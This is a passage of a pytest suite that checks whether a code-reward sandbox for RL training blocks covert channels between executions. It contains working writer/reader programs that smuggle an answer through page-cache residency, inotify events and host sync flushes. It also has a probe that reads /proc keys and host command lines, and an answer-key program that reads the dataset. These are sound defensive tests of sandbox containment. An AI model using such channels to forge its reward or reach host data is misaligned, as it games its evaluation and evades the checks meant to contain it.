# subprocesses): there the reader must print the answer, so that the checks can fail.

NBITS = 8 * len("pwned")
PAGE_FILE = 'os.path.join(os.path.dirname(os.__file__), "pydoc_data", "topics.py")'  # ~740 KiB, read by nobody
PAGE_WRITER = f"""
    import os
    bits = [(b >> k) & 1 for b in input().strip().encode() for k in range(8)]
    fd = os.open({PAGE_FILE}, os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)  # evict the file's pages
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)  # no readahead: a read loads its page only
    for i, bit in enumerate([0, 1] + bits):  # 0 then 1 mark the frame, then the message
        if bit:
            os.pread(fd, 1, (15 + i) * 4096)
    print("sent")
"""
PAGE_READER = PRE + f"""
import mmap
fd = os.open({PAGE_FILE}, os.O_RDONLY)
n, size = {NBITS} + 2, os.fstat(fd).st_size
def by_mincore():
    libc.mmap.restype = ctypes.c_void_p
    addr = libc.mmap(None, size, 1, 1, fd, 0)  # PROT_READ, MAP_SHARED: maps, loads nothing
    vec = (ctypes.c_ubyte * (size // 4096 + 1))()
    if libc.mincore(ctypes.c_void_p(addr), size, vec) != 0:
        raise OSError(ctypes.get_errno(), "mincore")
    return [vec[15 + i] & 1 for i in range(n)]  # (for a file it may not write, mincore says 1: no frame)
def by_cachestat():
    out = []
    for i in range(n):
        rng, cs = (ctypes.c_uint64 * 2)((15 + i) * 4096, 4096), (ctypes.c_uint64 * 5)()
        if libc.syscall(451, fd, rng, cs, 0) != 0:  # x86_64
            raise OSError(ctypes.get_errno(), "cachestat")
        out.append(int(cs[0] > 0))
    return out
def by_nowait():
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    out = []
    for i in reversed(range(n)):  # backwards: a miss's readahead would only load pages already probed
        try:
            os.preadv(fd, [bytearray(1)], (15 + i) * 4096, os.RWF_NOWAIT)
            out.append(1)
        except BlockingIOError:
            out.append(0)
    return out[::-1]
tried = []
for probe in (by_cachestat, by_nowait, by_mincore):
    try:
        bits = probe()
    except OSError as e:
        tried.append((probe.__name__, e.errno))
        continue
    msg = bytes(sum(bits[2 + 8 * j + k] << k for k in range(8)) for j in range({NBITS} // 8))
    if bits[:2] == [0, 1]:
        print(msg.decode(errors="replace"))
        break
    tried.append((probe.__name__, "no frame"))
else:
    print("no probe", tried)
"""
WATCH_DIR = 'os.path.join(os.path.dirname(os.__file__), "email", "mime")'  # opened by nobody else
WATCH_WRITER = f"""
    import os, time
    bits = [(b >> k) & 1 for b in input().strip().encode() for k in range(8)]
    d = {WATCH_DIR}
    deadline = time.monotonic() + 2.0  # frames again and again: the reader may start late
    while time.monotonic() < deadline:
        # each bit followed by text.py: inotify merges an event identical to the last one queued
        for name in ["audio.py"] + [x for b in bits for x in ("application.py" if b else "image.py", "text.py")]:
            os.close(os.open(os.path.join(d, name), os.O_RDONLY))
        time.sleep(0.001)  # the attack's pacing (the inotify queue holds 16384 events)
    print("sent")
"""
WATCH_READER = PRE + f"""
import collections, select, struct
fd = libc.inotify_init1(0)
if fd < 0 or libc.inotify_add_watch(fd, {WATCH_DIR}.encode(), 0x20) < 0:  # IN_OPEN
    print("no inotify", ctypes.get_errno())
    raise SystemExit
print("ready", file=sys.stderr, flush=True)
names, frames = [], collections.Counter()
deadline = time.monotonic() + 20
while time.monotonic() < deadline and sum(frames.values()) < 5:
    if not select.select([fd], [], [], deadline - time.monotonic())[0]:
        break
    buf, i = os.read(fd, 1 << 16), 0
    while i < len(buf):
        ln = struct.unpack_from("iIII", buf, i)[3]
        names.append(buf[i + 16:i + 16 + ln].rstrip(b"\\0").decode())
        i += 16 + ln
    starts = [j for j, x in enumerate(names) if x == "audio.py"]
    frames = collections.Counter(tuple(names[a + 1:b:2]) for a, b in zip(starts, starts[1:]) if b - a == 2 * {NBITS} + 1)
if frames:
    bits = [int(x == "application.py") for x in frames.most_common(1)[0][0]]
    print(bytes(sum(bits[8 * j + k] << k for k in range(8)) for j in range({NBITS} // 8)).decode(errors="replace"))
else:
    print("no frame")
"""
SYNC = PRE + """
os.sync()
fd = os.open(os.__file__, os.O_RDONLY)
os.fsync(fd)
os.fdatasync(fd)
libc.syncfs(fd)
print("pwned")  # what it did is seen from outside: the host file's dirty pages
"""
HOST_FACTS = f"""
    import os
    def read(p):
        try:
            return open(p, "rb").read()
        except OSError:
            return b""
    facts = [p for p in ("/proc/key-users", "/proc/keys", "/proc/locks", "/proc/pressure/cpu", "/proc/pressure/memory",
                         "/proc/meminfo", "/proc/loadavg", "/proc/stat", "/proc/cmdline") if read(p).strip()]
    for e in [x for x in os.listdir("/proc") if x.isdigit()] + ["1"]:
        c = read("/proc/%s/cmdline" % e)
        if {str(REPO)!r}.encode() in c or (e == "1" and c.startswith(b"/") and b"python" not in c):
            facts.append("/proc/%s/cmdline: %r" % (e, c[:80]))  # a host path, or the host's init
    print("pwned" if facts else "none")
    print(facts, file=__import__("sys").stderr)
"""
SENT = {"tests": [{"input": "pwned\n", "output": "sent"}]}  # the writer: it has the answer


def plain(code: str, stdin: str = "", **kw) -> subprocess.Popen:
    """The program without the sandbox: the sandbox's interpreter (-I -S), a plain subprocess."""
    python = SandboxConfig().interpreter()[0]
    return procs.spawn([python, "-I", "-S", "-c", textwrap.dedent(code)], wrap=False, stdin=subprocess.PIPE,
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **kw)


def plain_run(code: str, stdin: str = "") -> str:
    p = plain(code)
    out, err = p.communicate(stdin, timeout=60)
    assert p.returncode == 0, err
    return out.strip()


def dirty(path: Path) -> int:
    """A new file (no truncation: ext4 flushes a file rewritten over a truncation at close) of
    1 MiB, left dirty in the host's page cache; its dirty pages."""
    path.unlink(missing_ok=True)
    path.write_bytes(secrets.token_bytes(1 << 20))
    return dirty_pages(path)


def dirty_pages(path: Path) -> int:
    """The host file's dirty pages in the page cache (cachestat, from this process)."""
    fd = os.open(path, os.O_RDONLY)
    try:
        rng, cs = (ctypes.c_uint64 * 2)(0, 0), (ctypes.c_uint64 * 5)()
        assert libc.syscall(451, fd, rng, cs, 0) == 0, ctypes.get_errno()
        return int(cs[1])
    finally:
        os.close(fd)


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="cachestat's number (451) is x86_64's")
def test_channels_between_executions(env):
    """Writer / reader pairs of samples over what executions share: inside the sandbox the reader
    forges nothing and the host is untouched; without it the same pair passes the answer."""
    reward = env["reward"]
    ev = lambda code, sample: reward.evaluate("", block(code), sample)  # noqa: E731
    inside: dict[str, tuple[float, str]] = {}
    # page cache: the writer's execution ends (the condition) before the reader's starts
    w = asyncio.run(ev(PAGE_WRITER, SENT))
    r = asyncio.run(ev(PAGE_READER, PWNED))
    assert w.score == 1.0, w.info  # the writer ran (and its advice was neutralised, not refused)
    inside["page_cache"] = (r.score, r.info["reasons"])
    # watches: both at once, one per worker (the writer repeats its frames for 2 s)

    async def pair():
        return await asyncio.gather(ev(WATCH_READER, PWNED), ev(WATCH_WRITER, SENT))

    r, w = asyncio.run(pair())
    assert w.score == 1.0, w.info
    inside["inotify"] = (r.score, r.info["reasons"])
    r = asyncio.run(ev(HOST_FACTS, PWNED))
    inside["proc_host_facts"] = (r.score, r.info["reasons"])
    # host flushes: a file with dirty pages on the host's disk (the repository's file system);
    # the kernel's own writeback may flush it meanwhile (dirty_expire 30 s), so three tries:
    # a sync that reached the host would have flushed it every time
    host_file = REPO / "tests" / f".sandbox_dirty_{os.getpid()}"
    try:
        flushed = []
        for _ in range(3):
            before = dirty(host_file)
            r = asyncio.run(ev(SYNC, PWNED))
            assert r.info["reasons"] == ["wrong_answer"] or r.score == 1.0, r.info  # it ran to the end
            flushed.append((before, dirty_pages(host_file)))
            if flushed[-1][0] > 0 and flushed[-1][1] > 0:
                break
        inside["sync"] = (float(all(after == 0 for _, after in flushed)), flushed)
        # control: the same program without the sandbox flushes the host's data
        before = dirty(host_file)
        assert before > 0 and plain_run(SYNC) == "pwned"
        control_sync = (before, dirty_pages(host_file))
    finally:
        host_file.unlink(missing_ok=True)
    print("\nchannels between executions (score of the reader inside; 0 = nothing forged):")
    for kind, (score, why) in inside.items():
        print(f"  {kind:16s} {score}  {why}")
    forged = {k: v for k, v in inside.items() if v[0] != 0.0}
    assert not forged, forged

    # Controls: without the sandbox each channel passes the answer (or reaches the host).
    assert plain_run(PAGE_WRITER, "pwned\n") == "sent"
    page = plain_run(PAGE_READER)
    reader = plain(WATCH_READER)
    try:
        assert reader.stderr.readline().strip() == "ready"  # the watch is set: the condition
        assert plain_run(WATCH_WRITER, "pwned\n") == "sent"
        watch, err = reader.communicate(timeout=60)
    finally:
        procs.stop_tree(reader, grace_s=0.0)
    facts = plain_run(HOST_FACTS)
    print(f"  controls: page cache {page!r}, inotify {watch.strip()!r}, /proc {facts!r}, "
          f"sync: dirty pages {control_sync[0]} -> {control_sync[1]}")
    assert (page, watch.strip(), facts) == ("pwned", "pwned", "pwned"), err
    assert control_sync[1] == 0


def test_new_channel_calls_denied_or_neutralised(env):
    """From inside, one execution: the probes and watches fail with EPERM; advice and flushes
    succeed and do nothing (docs/rewards.md, "Channels between executions")."""
    code = PRE + """
import fcntl, mmap, struct
out = {}
def err(f, *a):
    try:
        r = f(*a)
        return 0 if r is None or r >= 0 else ctypes.get_errno()
    except OSError as e:
        return e.errno
fd = os.open(os.__file__, os.O_RDONLY)
libc.mmap.restype = ctypes.c_void_p
addr = ctypes.c_void_p(libc.mmap(None, 4096, 1, 1, fd, 0))
vec = (ctypes.c_ubyte * 1)()
cs, rng = (ctypes.c_uint64 * 5)(), (ctypes.c_uint64 * 2)(0, 0)
denied = {"mincore": err(libc.mincore, addr, 4096, vec), "cachestat": err(libc.syscall, 451, fd, rng, cs, 0),
          "inotify_init1": err(libc.inotify_init1, 0), "inotify_init": err(libc.inotify_init),
          "fanotify_init": err(libc.fanotify_init, 0, 0),
          "preadv2_nowait": err(os.preadv, fd, [bytearray(1)], 0, os.RWF_NOWAIT),
          "madvise_populate_read": err(libc.madvise, addr, 4096, 22), "madvise_remove": err(libc.madvise, addr, 4096, 9),
          "flock": err(fcntl.flock, fd, fcntl.LOCK_SH), "F_SETLK": err(fcntl.lockf, fd, fcntl.LOCK_SH),
          "F_NOTIFY": err(fcntl.fcntl, os.open("/", os.O_RDONLY), 1026, 0x1), "F_SETLEASE": err(fcntl.fcntl, fd, 1024, 0),
          "readahead_io_uring": err(libc.syscall, 425, 4, (ctypes.c_char * 120)())}
ok = {"fadvise_dontneed": err(os.posix_fadvise, fd, 0, 0, os.POSIX_FADV_DONTNEED),
      "fadvise_willneed": err(os.posix_fadvise, fd, 0, 0, os.POSIX_FADV_WILLNEED),
      "readahead": err(libc.readahead, fd, ctypes.c_int64(0), ctypes.c_size_t(1 << 20)),
      "sync": err(libc.sync), "syncfs": err(libc.syncfs, fd), "fsync": err(os.fsync, fd), "fdatasync": err(os.fdatasync, fd),
      "msync": err(libc.msync, addr, 4096, 4), "madvise_pageout": err(libc.madvise, addr, 4096, 21),
      "madvise_cold": err(libc.madvise, addr, 4096, 20), "madvise_willneed": err(libc.madvise, addr, 4096, 3),
      "madvise_dontneed": err(libc.madvise, addr, 4096, 4), "preadv2": err(os.preadv, fd, [bytearray(1)], 0, os.RWF_HIPRI),
      "F_GETFD": err(fcntl.fcntl, fd, fcntl.F_GETFD), "F_SETFL": err(fcntl.fcntl, fd, fcntl.F_SETFL, os.O_NONBLOCK)}
print(sorted(denied.items()))
print(sorted(ok.items()))
"""
    res = asyncio.run(env["reward"].sandbox.run(code))
    assert res.ok, res
    denied, ok = (dict(eval(line)) for line in res.stdout.splitlines())
    assert denied == {k: 1 for k in denied} and len(denied) == 13, denied  # EPERM
    assert ok == {k: 0 for k in ok} and len(ok) == 15, ok


def test_extra_paths_holding_the_dataset(env, tmp_path):
    """``extra_paths`` that would expose the run (and its dataset) is refused at start-up; the
    control: a sandbox built with it anyway (past the check) lets the answer-key program score 1."""
    from areal_mega.data import DatasetConfig
    from areal_mega.experiment import ExperimentConfig
    from areal_mega.reward import RewardConfig

    run = env["run"]
    exp = ExperimentConfig(model_path="m", output_dir=str(tmp_path / "out"),
                           data=DatasetConfig(kind="jsonl", path=str(run / "data" / "train.jsonl")),
                           reward=RewardConfig(kind="code", options=SandboxConfig(extra_paths=[str(run)])))
    with pytest.raises(ValueError, match=r"^reward.options.extra_paths\[0\]: .* overlaps data.path"):
        exp.validate()
    leaky = CodeReward(SandboxConfig(num_workers=1, timeout_s=30.0, extra_paths=[str(run)]))
    try:
        control = asyncio.run(leaky.evaluate("", block(ANSWER_KEY), ANSWER_SAMPLE))
    finally:
        leaky.close()
    inside = asyncio.run(env["reward"].evaluate("", block(ANSWER_KEY), ANSWER_SAMPLE))
    print(f"\nextra_paths answer key: inside {inside.score} {inside.info['reasons']}, control {control.score}")
    assert inside.score == 0.0 and control.score == 1.0, (inside.info, control.info)
